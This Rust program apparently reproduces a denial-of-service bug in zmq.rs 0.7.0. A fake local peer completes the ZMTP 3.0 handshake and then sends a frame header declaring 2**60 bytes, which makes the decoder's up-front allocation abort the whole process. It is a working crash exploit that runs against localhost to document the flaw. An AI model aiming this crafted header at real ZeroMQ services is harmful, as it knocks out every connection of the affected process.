//! D10 (MI-6): a peer that completes the ZMTP 3.0 handshake and then sends a frame header
//! declaring 2**60 bytes. libzmq (with or without ZMQ_MAXMSGSIZE) drops that connection; zmq.rs
//! 0.7.0's decoder reserves the declared size up front, the allocation fails, and Rust aborts the
//! whole process ("memory allocation of 1152921504606912612 bytes failed"), taking every other
//! connection of every socket with it. This program is that process: it ends with SIGABRT (status
//! 134 from a shell) instead of printing its verdict.
use std::io::Write;
use std::time::Duration;
use zeromq::prelude::*;

#[path = "common.rs"]
mod common;

fn frame_command(body: &[u8]) -> Vec<u8> {
    let mut out = vec![0x04, body.len() as u8];
    out.extend_from_slice(body);
    out
}

#[tokio::main]
async fn main() {
    let mut pull = zeromq::PullSocket::new();
    let endpoint = pull.bind("tcp://127.0.0.1:0").await.unwrap().to_string();
    let address = endpoint.trim_start_matches("tcp://").to_string();
    std::thread::spawn(move || {
        let mut peer = std::net::TcpStream::connect(address).unwrap();
        let mut greeting = vec![0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0x7f, 3, 0];
        greeting.extend_from_slice(b"NULL");
        greeting.resize(64, 0);
        let mut ready = b"\x05READY\x0bSocket-Type".to_vec();
        ready.extend_from_slice(&4u32.to_be_bytes());
        ready.extend_from_slice(b"PUSH");
        peer.write_all(&greeting).unwrap();
        peer.write_all(&frame_command(&ready)).unwrap();
        let mut header = vec![0x02];
        header.extend_from_slice(&(1u64 << 60).to_be_bytes());
        header.extend_from_slice(&[0u8; 64]);
        peer.write_all(&header).unwrap();
        std::thread::sleep(Duration::from_secs(5));
    });
    let got = tokio::time::timeout(Duration::from_secs(2), pull.recv()).await;
    println!("the PULL survived the frame header (receive: {})", if got.is_ok() { "something" } else { "nothing, as it should" });
    common::verdict(false, "a frame declaring 2**60 bytes only cost that peer its connection")
}
